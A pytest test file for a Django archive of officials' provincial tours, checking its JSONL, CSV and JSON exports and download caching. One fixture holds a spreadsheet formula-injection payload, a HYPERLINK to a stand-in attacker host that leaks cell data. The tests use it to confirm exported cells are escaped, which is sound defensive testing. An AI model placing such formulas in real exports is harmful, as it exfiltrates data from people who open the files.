"""The exports: export_visits (the schema score.py reads, in JSON Lines, and CSV; tests/corpus
scores it) and the site's CSV and JSON downloads, against the fields export.py describes."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from archive import cache
from archive.ingest.importer import Importer
from archive.models import ArchiveVersion, Article, Visit
from archive.site.export import (
    CSV_FIELDS,
    DOWNLOAD_FIELDS,
    RECORD_FIELDS,
    csv_rows,
    record_csv_rows,
    records,
)
from tests.articles import SEEDS, seed, written
from tests.builders import make_visit

pytestmark = pytest.mark.django_db

SITE = "https://archive.example.org"


def export(fmt: str, tmp_path, site: str = SITE) -> str:
    target = tmp_path / f"visits.{fmt}"
    call_command("export_visits", "--format", fmt, "--output", str(target), "--site-url", site)
    return target.read_text(encoding="utf-8")


def downloaded(client, fmt: str, **params) -> str:
    response = client.get("/visits/", {**params, "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_jsonl_has_one_tour_a_line_with_names_posts_and_sources(tmp_path):
    Importer().import_paths([str(seed("001")), str(written("meeting"))])
    lines = export("jsonl", tmp_path).splitlines()
    assert len(lines) == 1  # the meeting is not a tour
    record = json.loads(lines[0])
    assert record["start_date"] == "2023-03-21" and record["end_date"] == "2023-03-22"
    assert record["officials"] == [
        {"name": "Li Qiang", "name_zh": "李强", "post": "Premier of the State Council"}
    ]
    # Each official's post on the tour's first day: Wu Zhenglong was State Councillor by then.
    assert record["accompanying"] == [
        {"name": "Wu Zhenglong", "name_zh": "吴政隆", "post": "State Councillor"}
    ]
    assert [p["name"] for p in record["provinces"]] == ["Hunan"]
    assert {c["name"] for c in record["cities"]} == {"Zhuzhou", "Changsha"}
    assert all(c["province"] == "Hunan" for c in record["cities"])
    assert "advanced-manufacturing" in record["themes"]
    assert record["sources"][0]["file"] == seed("001").name
    assert record["url"] == f"{SITE}/visits/{record['id']}/"
    assert record["review_status"] == "unreviewed"


def test_rejected_tours_are_not_exported(tmp_path):
    Importer().import_paths([str(SEEDS)])
    Visit.objects.filter(sources__file_name=seed("002").name).update(review_status="rejected")
    assert len(export("jsonl", tmp_path).splitlines()) == 4


def test_csv_flattens_lists_with_semicolons(tmp_path):
    Importer().import_paths([str(seed("001"))])
    rows = list(csv.DictReader(io.StringIO(export("csv", tmp_path))))
    assert len(rows) == 1
    assert rows[0]["officials"] == "Li Qiang"
    assert set(rows[0]["cities"].split("; ")) == {"Zhuzhou", "Changsha"}
    assert rows[0]["source_ids"] == str(Article.objects.get(file_name=seed("001").name).pk)


def hubei_tours() -> tuple[Visit, Visit]:
    """Li Qiang in Hubei in 2020 (Party Secretary of Shanghai then) and in 2024 (Premier), the
    second with a governor beside him, two cities, a company and two reports on the web."""
    earlier = make_visit(start="2020-05-06", cities=["Wuhan"])
    later = make_visit(
        start="2024-01-02",
        accompanying=["Wang Zhonglin"],
        cities=["Yichang", "Wuhan"],
        enterprises=["Yangtze Memory Technologies Co"],
        themes=["advanced-manufacturing"],
        sources=2,
    )
    for n, article in enumerate(later.sources.order_by("pk")):
        article.url = f"https://news.example.cn/{n}.html"
        article.save()
    return earlier, later


def test_csv_gives_addresses_posts_at_the_time_codes_chinese_names_and_sources(client, tmp_path):
    earlier, later = hubei_tours()
    reports = list(later.sources.order_by("published", "file_name"))

    for text, site in (
        (export("csv", tmp_path), SITE),
        (downloaded(client, "csv"), "http://testserver"),
    ):
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
        first, second = rows[str(earlier.pk)], rows[str(later.pk)]
        assert first["url"] == f"{site}/visits/{earlier.pk}/"
        assert first["official_posts"] == "Party Secretary of Shanghai"
        assert second["official_posts"] == "Premier of the State Council"
        assert second["officials_zh"] == "李强"
        assert (second["accompanying"], second["accompanying_zh"]) == ("Wang Zhonglin", "王忠林")
        assert second["accompanying_posts"] == "Governor of Hubei"
        assert (second["provinces"], second["provinces_zh"]) == ("Hubei", "湖北省")
        assert second["province_codes"] == "420000"
        # Parallel columns, by name: each city's Chinese name and code at its place.
        assert second["cities"] == "Wuhan; Yichang"
        assert second["cities_zh"] == "武汉市; 宜昌市"
        assert second["city_codes"] == "420100; 420500"
        assert second["enterprises"] == "Yangtze Memory Technologies Co"
        assert second["source_ids"] == "; ".join(str(r.pk) for r in reports)
        assert second["source_urls"] == "; ".join(r.url for r in reports)
        assert not any("built-" in cell for cell in second.values())  # no crawl file names


def test_a_json_download_says_how_many_tours_under_what_licence_from_which_version(client):
    hubei_tours()
    ArchiveVersion.objects.update_or_create(pk=1, defaults={"number": 41})

    text = downloaded(client, "json", province="420000")

    download = json.loads(text)
    assert list(download) == [field.name for field in DOWNLOAD_FIELDS]
    assert download["count"] == len(download["tours"]) == 2
    assert download["licence"] == settings.DATA_LICENCE and download["licence"]["url"]
    assert download["archive_version"] == 41
    assert download["query"] == "http://testserver/visits/?province=420000&format=json"
    later = download["tours"][0]  # newest first, as the site lists them
    assert later["url"] == f"http://testserver/visits/{later['id']}/"
    assert later["accompanying"][0]["post"] == "Governor of Hubei"


def test_an_empty_json_download_is_an_object_with_no_tours(client):
    download = json.loads(downloaded(client, "json"))
    assert (download["tours"], download["count"]) == ([], 0)


def test_the_exports_hold_the_fields_described_and_the_readme_lists_them(client, tmp_path):
    hubei_tours()
    record = json.loads(export("jsonl", tmp_path).splitlines()[0])
    header = next(csv.reader(io.StringIO(downloaded(client, "csv"))))

    assert list(record) == [field.name for field in RECORD_FIELDS]
    assert header == [field.name for field in CSV_FIELDS]
    readme = (Path(settings.BASE_DIR) / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Exporting", 1)[1].split("\n## ", 1)[0]
    described = set(re.findall(r"^\| `([a-z_]+)`", section, re.MULTILINE))
    for field in (*RECORD_FIELDS, *CSV_FIELDS, *DOWNLOAD_FIELDS):
        assert field.name in described, field.name


# A report whose text begins with a formula, in a file whose name begins with another.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")'


@pytest.fixture
def formula_report(tmp_path):
    header, text = seed("001").read_text(encoding="utf-8").split("\n", 1)
    title = header.split(" ", 3)[3]  # " date YYYY-MM-DD Title"
    report = tmp_path / "@SUM(1+1).txt"
    report.write_text(f"{FORMULA} {title}\n{text}", encoding="utf-8")
    Importer().import_paths([str(report)])
    return report


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_no_csv_cell_is_a_formula_in_export_visits_or_the_sites_downloads(
    client, tmp_path, formula_report
):
    Article.objects.update(url="@SUM(1+1)")  # no web address, but a spreadsheet formula

    for text in (export("csv", tmp_path), downloaded(client, "csv")):
        (row,) = csv.DictReader(io.StringIO(text))
        assert row["summary"].startswith("'" + FORMULA)  # shown as text, as it was written
        assert row["source_urls"] == "'@SUM(1+1)"
        assert not [c for c in cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_csv_of_records_already_read_is_the_csv_of_their_tours(formula_report):
    hubei_tours()
    visits = Visit.objects.public().order_by("start_date", "id")
    assert "".join(record_csv_rows(records(visits, SITE))) == "".join(csv_rows(visits, SITE))


def test_a_download_asked_again_is_read_whole_until_the_archive_changes(
    client, django_assert_max_num_queries
):
    hubei_tours()
    first = client.get("/visits.csv", {"province": "420000"})
    body = first.getvalue()
    assert first.streaming and body.count(b"\r\n") == 3

    with django_assert_max_num_queries(1):  # the archive's version: the rest is kept
        again = client.get("/visits.csv", {"province": "420000"})

    assert not again.streaming and again.content == body
    for header in ("Content-Type", "Content-Disposition"):
        assert again[header] == first[header]
    visit = Visit.objects.filter(provinces__code="420000").first()
    visit.title = "A renamed tour"
    visit.save()
    changed = client.get("/visits.csv", {"province": "420000"})
    assert changed.streaming and b"A renamed tour" in changed.getvalue()


def test_a_download_larger_than_what_is_kept_is_made_each_time(client, monkeypatch):
    hubei_tours()
    monkeypatch.setattr(cache, "KEPT_DOWNLOAD_BYTES", 100)
    body = client.get("/visits.json").getvalue()
    assert len(body) > 100
    again = client.get("/visits.json")
    assert again.streaming and again.getvalue() == body
